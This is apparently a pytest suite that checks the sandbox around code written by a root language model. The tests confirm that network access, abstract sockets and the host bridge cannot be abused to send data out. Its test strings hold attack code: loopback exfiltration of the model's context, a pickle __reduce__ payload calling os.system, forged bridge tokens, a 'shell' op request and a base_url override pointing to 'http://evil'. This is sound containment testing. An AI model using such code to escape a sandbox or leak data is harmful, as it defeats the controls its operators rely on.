"""Hostile root code reaching for the network, and abusing the bridge to the host."""

from __future__ import annotations

import json
import os
import pickle
import secrets
import socket
import struct
import textwrap
import threading
import time
from collections.abc import Iterator

import pytest
from security_harness import Sandbox


class Listener:
    """A server of the test's own on the host (TCP on 127.0.0.1 unless told) that records whatever reaches it."""

    def __init__(self, family: int = socket.AF_INET, address: object = ("127.0.0.1", 0)) -> None:
        self.sock = socket.socket(family)
        self.sock.bind(address)
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1] if family == socket.AF_INET else 0
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1.0)
                try:
                    self.received.append(conn.recv(65536) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def test_cannot_reach_a_host_port_on_loopback(sandbox: Sandbox, listener: Listener) -> None:
    sandbox.require("network_blocked")
    code = textwrap.dedent(f"""\
        import socket
        try:
            s = socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)
            s.sendall(context.encode())
            print('connected')
        except OSError as e:
            print(type(e).__name__)""")
    result = sandbox.attack(code)
    assert "connected" not in sandbox.step(result).stdout
    assert listener.received == []
    sandbox.check_survived(result)


#: What the kernel's own network stack offers, read from its /proc and /sys; nothing is sent anywhere.
WAYS_OUT = textwrap.dedent("""\
    import json, os, socket
    def devices(path, column, skip):
        try:
            with open(path) as fh:
                lines = [line.replace(':', ' ', 1) for line in fh.read().splitlines()[skip:] if line.strip()]
        except OSError as e:
            return [type(e).__name__]
        return sorted({line.split()[column] for line in lines})
    made = []
    for family in (socket.AF_INET, socket.AF_INET6):
        try:
            socket.socket(family, socket.SOCK_DGRAM).close(); made.append('made')
        except OSError as e:
            made.append(e.errno)
    try:
        sys_net = sorted(os.listdir('/sys/class/net'))
    except OSError as e:
        sys_net = [type(e).__name__]
    print(json.dumps({'interfaces': devices('/proc/net/dev', 0, 2), 'sys': sys_net, 'sockets': made,
                      'routes': devices('/proc/net/route', 0, 1),
                      'routes6': devices('/proc/net/ipv6_route', -1, 0)}))""")


def test_no_way_off_the_machine(sandbox: Sandbox) -> None:
    """Proved without sending a packet: the routes and interfaces the kernel sees, and what sockets it may make."""
    sandbox.require("network_blocked")
    result = sandbox.attack(WAYS_OUT)
    seen = json.loads(sandbox.step(result).stdout)
    if sandbox.isolation.mode == "bwrap":
        # its own network namespace: a loopback device and nothing else, and no route through anything but it
        assert seen["interfaces"] == ["lo"] and seen["routes"] == [] and set(seen["routes6"]) <= {"lo"}, seen
        assert seen["sys"] == ["FileNotFoundError"]  # no /sys at all
    else:
        # the host's network namespace, with its routes (the kernel reads the host's own tables), but
        # seccomp allows no socket that could use one: EACCES for AF_INET and AF_INET6
        assert seen["sockets"] == [13, 13], seen
        assert seen["sys"] == sorted(os.listdir("/sys/class/net")) and "lo" in seen["interfaces"], seen
    sandbox.check_survived(result)


def test_cannot_reach_an_abstract_unix_socket_of_the_host(sandbox: Sandbox) -> None:
    """``\\0name`` sockets have no path, so no file rule covers them; a local service may listen on one."""
    sandbox.require("abstract_sockets_safe")
    name = f"\0rlm-test-{secrets.token_hex(8)}"
    server = Listener(socket.AF_UNIX, name)
    code = textwrap.dedent(f"""\
        import socket
        mine = socket.socket(socket.AF_UNIX); mine.bind('\\0rlm-kernel-own'); mine.listen()
        socket.socket(socket.AF_UNIX).connect('\\0rlm-kernel-own')
        print('own ok')
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect({name!r})
            s.sendall(context.encode())
            print('connected')
        except OSError as e:
            print(type(e).__name__, e.errno)""")
    try:
        result = sandbox.attack(code)
    finally:
        server.close()
    out = sandbox.step(result).stdout
    assert out.startswith("own ok\n") and "connected" not in out, out
    # bwrap: the host's sockets are in another network namespace (ECONNREFUSED); uid: Landlock's scope (EPERM)
    assert out.endswith("ConnectionRefusedError 111\n" if sandbox.isolation.mode == "bwrap" else "PermissionError 1\n")
    assert server.received == []
    sandbox.check_survived(result)


def test_replacing_llm_query_cannot_smuggle_data_out(sandbox: Sandbox, listener: Listener) -> None:
    sandbox.require("network_blocked")
    code = textwrap.dedent(f"""\
        import urllib.request
        def llm_query(prompt, model=None):
            return urllib.request.urlopen('http://127.0.0.1:{listener.port}/?d=' + prompt, timeout=2).read()
        try:
            llm_query(context)
        except OSError as e:
            print(type(e).__name__)""")
    before = sandbox.lm.stats["sub"]
    result = sandbox.attack(code, then="print('alive')")
    assert listener.received == [] and sandbox.lm.stats["sub"] == before
    sandbox.check_survived(result)
    restored = sandbox.attack("print(llm_query('x'))")  # the next completion has the real helper back
    assert sandbox.step(restored).stdout == "ok\n"


BRIDGE_CLIENT = textwrap.dedent("""\
    import json, socket, struct, sys
    rt = sys.modules['_rlm_in_kernel']._runtime
    path, token = rt.bridge._path, rt.bridge._token
    def raw(body, header=None, tok=None):
        s = socket.socket(socket.AF_UNIX); s.connect(path)
        s.sendall((header if header is not None else struct.pack('>32sI', tok or token, len(body))) + body)
        s.settimeout(5)
        try:
            size = struct.unpack('>I', s.recv(4))[0]
            data = b''
            while len(data) < size:
                data += s.recv(size - len(data))
            return json.loads(data)
        except (OSError, struct.error) as e:
            return {'closed': type(e).__name__}
    def req(tok=None, **fields):
        return raw(json.dumps(fields).encode(), tok=tok)
""")


def _refused(sandbox: Sandbox, code: str) -> tuple[str, int, int]:
    """Run a bridge attack; returns its output, the sub-calls it caused, the refusals counted."""
    before_sub, before_refused = sandbox.lm.stats["sub"], len(sandbox.pool.refused)
    result = sandbox.attack(BRIDGE_CLIENT + code, then="print('alive')")
    sandbox.check_survived(result)
    return sandbox.step(result).stdout, sandbox.lm.stats["sub"] - before_sub, len(sandbox.pool.refused) - before_refused


def test_bridge_refuses_a_request_without_token(sandbox: Sandbox) -> None:
    out, calls, refused = _refused(sandbox, "print(req(tok=bytes(32), op='llm_query', args={'prompt': 'x'}))")
    assert "PermissionError" in out and "token" in out and calls == 0 and refused == 1


def test_bridge_refuses_a_forged_token(sandbox: Sandbox) -> None:
    code = "print(req(tok=token[:-1] + bytes([token[-1] ^ 1]), op='llm_query', args={'prompt': 'x'}))"
    out, calls, refused = _refused(sandbox, code)
    assert "PermissionError" in out and calls == 0 and refused == 1


def test_bridge_checks_the_token_before_reading_a_body(sandbox: Sandbox) -> None:
    # A 4 GiB length under a wrong token: refused on the 36-byte header, nothing else is read.
    code = "print(raw(b'', header=struct.pack('>32sI', bytes(32), 2**32 - 1)))\nprint(llm_query('after'))"
    out, calls, refused = _refused(sandbox, code)
    assert "token" in out and out.endswith("ok\n") and calls == 1 and refused == 1


def test_bridge_refuses_a_pickle(sandbox: Sandbox, tmp_path) -> None:
    marker = tmp_path / "unpickled"

    class Exploit:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))

    payload = pickle.dumps(Exploit())
    out, calls, refused = _refused(sandbox, f"print(raw({payload!r}))")
    assert "never unpickles" in out and calls == 0 and refused == 1
    assert not marker.exists()


def test_bridge_refuses_json_nested_too_deep_and_stays_usable(sandbox: Sandbox) -> None:
    code = "print(raw(b'[' * 200000 + b']' * 200000))\nprint(llm_query('after'))"
    out, calls, refused = _refused(sandbox, code)
    assert "nested too deep" in out and out.endswith("ok\n") and calls == 1 and refused == 1


def test_bridge_refuses_an_oversized_message_without_reading_it(sandbox: Sandbox) -> None:
    code = "print(raw(b'{}', header=struct.pack('>32sI', token, 2**32 - 1)))\nprint(llm_query('after'))"
    out, calls, refused = _refused(sandbox, code)
    assert "over the" in out and "MiB limit" in out and out.endswith("ok\n")
    assert calls == 1 and refused == 1


def test_bridge_refuses_other_operations_and_bad_arguments_are_type_errors(sandbox: Sandbox) -> None:
    code = textwrap.dedent("""\
        print(req(op='shell', args={'cmd': 'id'}))
        print(req(op='llm_query', args={'prompt': 'x', 'base_url': 'http://evil', 'api_key': 'k'}))
        print(req(op='llm_batch', args={'prompts': 'not a list'}))""")
    out, calls, refused = _refused(sandbox, code)
    assert out.count("rlm bridge:") == 1 and out.count("'type': 'TypeError'") == 2 and "unexpected keyword" in out
    assert calls == 0 and refused == 1


def test_a_typo_in_root_code_is_a_type_error_and_the_next_call_works(sandbox: Sandbox) -> None:
    code = textwrap.dedent("""\
        for bad in (lambda: llm_query(123), lambda: llm_batch(['a'], max_concurrent=2.0),
                    lambda: llm_batch([1, 2]), lambda: llm_query('x', model=5)):
            try:
                bad()
            except TypeError as e:
                print('TypeError', str(e)[:40])
        print(llm_query('fine'))""")
    before = len(sandbox.pool.refused)
    result = sandbox.attack(code)
    out = sandbox.step(result).stdout
    assert out.count("TypeError") == 4 and out.endswith("ok\n"), out
    assert len(sandbox.pool.refused) == before  # not a security event
    sandbox.check_survived(result)


def test_bridge_caps_connections(sandbox: Sandbox) -> None:
    code = textwrap.dedent("""\
        socks = []
        for _ in range(40):
            s = socket.socket(socket.AF_UNIX); s.connect(path); socks.append(s)
        import select, time
        time.sleep(0.3)
        closed = sum(s.recv(1) == b'' for s in select.select(socks, [], [], 0.5)[0])
        print('closed', closed)
        for s in socks:
            s.close()
        print(llm_query('after'))""")
    out, calls, refused = _refused(sandbox, code)
    # 32 connections at most: the one the load took the context's pipe over stays open, so 9 of 40 are refused.
    assert "closed 9" in out and out.endswith("ok\n") and calls == 1 and refused == 9, out


def test_bridge_caps_batch_length_and_clamps_concurrency(sandbox: Sandbox) -> None:
    code = textwrap.dedent("""\
        try:
            llm_batch(['x'] * 20_001)
        except ValueError as e:
            print('ValueError', 'max_batch' in str(e))
        print(len(llm_batch(['y'] * 20, max_concurrent=10**9)))""")
    before = sandbox.lm.stats["sub"]
    result = sandbox.attack(code)
    assert sandbox.step(result).stdout == "ValueError True\n20\n"
    assert sandbox.lm.stats["sub"] - before == 20
    sandbox.check_survived(result)


def test_root_code_may_only_name_configured_models(sandbox: Sandbox) -> None:
    code = textwrap.dedent("""\
        try:
            llm_query('x', model='gpt-5-pro')
        except ValueError as e:
            print('refused', 'configured models' in str(e))
        print(llm_query('y', model='sub'))""")
    before = sandbox.lm.stats["sub"]
    result = sandbox.attack(code)
    assert sandbox.step(result).stdout == "refused True\nok\n"
    assert sandbox.lm.stats["sub"] - before == 1
    sandbox.check_survived(result)


def test_the_host_tokenizes_nothing_for_the_kernel(sandbox: Sandbox) -> None:
    # chunk runs in the kernel, on the kernel's own CPU and memory; the op that once tokenized on the host is gone.
    code = ("print(len(chunk('word ' * 3000, max_tokens=1000)))\n"
            "print(req(op='helper', args={'name': 'chunk', 'args': ['x ' * 10**6], 'kwargs': {}}))")
    out, calls, refused = _refused(sandbox, code)
    assert out.startswith("4\n") and "unknown operation" in out and calls == 0 and refused == 1


def test_the_host_caps_step_output_whatever_the_kernel_sends(sandbox: Sandbox) -> None:
    # 3 M characters, over the 2 M cap: enough to test the host's cap, and light enough to cross within
    # the 2 s step timeout on a loaded machine (9 M once did not, under 4 test workers and other jobs)
    code = "import sys\nsys.modules['_rlm_steps'].Capture.getvalue = lambda self: 'x' * 3_000_000\nprint(1)"
    result = sandbox.attack(code, then="print('alive')")
    out = sandbox.step(result).stdout
    assert len(out) < 2_100_000 and "characters omitted" in out, sandbox.step(result).error
    sandbox.check_survived(sandbox.attack("pass"))  # the next completion's kernel is a fresh one


def test_bridge_refuses_calls_from_a_thread_left_running_after_the_step(sandbox: Sandbox) -> None:
    code = textwrap.dedent("""\
        import threading, time
        box = []
        def later():
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline:  # budget() costs no model call: poll until the step is closed
                try:
                    budget()
                except RuntimeError:
                    break
                time.sleep(0.01)
            try:
                box.append(llm_query('late'))
            except Exception as e:
                box.append(type(e).__name__ + ': ' + str(e))
        threading.Thread(target=later, daemon=True).start()""")
    before = sandbox.lm.stats["sub"]
    # The thread calls while the root model "thinks" about step 2: no step is running then.
    sandbox.lm.latency = lambda r: 1.5 if r.role == "root" else 0.0
    then = "import time\nd = time.monotonic() + 10\nwhile not box and time.monotonic() < d:\n    time.sleep(0.01)\n"
    try:
        result = sandbox.attack(code, then=then + "print(box)\nprint('alive')")
    finally:
        sandbox.lm.latency = 0.0
    assert "only available while a REPL step runs" in sandbox.step(result, 1).stdout
    assert sandbox.lm.stats["sub"] == before
    assert sandbox.step(result, 1).stdout.endswith("alive\n")


def test_another_local_process_cannot_use_the_bridge(sandbox: Sandbox) -> None:
    """The host test itself plays the other process, token unknown, while a step runs."""
    sandbox.lm.root = ["```repl\nimport time; time.sleep(1.5)\n```", "FINAL(done)"]
    before = sandbox.lm.stats["sub"]
    done: list[object] = []
    thread = threading.Thread(target=lambda: done.append(sandbox.rlm.completion("ctx", "q")))
    thread.start()
    try:
        busy = []
        deadline = time.monotonic() + 10
        while not busy and time.monotonic() < deadline:
            busy = [k for k in sandbox.pool.kernels if k.bridge.step_open]
            threading.Event().wait(0.02)
        assert busy, "no step ran"
        body = b'{"op": "llm_query", "args": {"prompt": "x"}}'
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(busy[0].bridge.path)
            s.sendall(struct.pack(">32sI", b"guess" * 6 + b"xx", len(body)) + body)
            s.settimeout(5)
            reply = s.recv(65536)
    finally:
        thread.join(30)
    assert b"PermissionError" in reply and b"token" in reply
    assert done and sandbox.lm.stats["sub"] == before
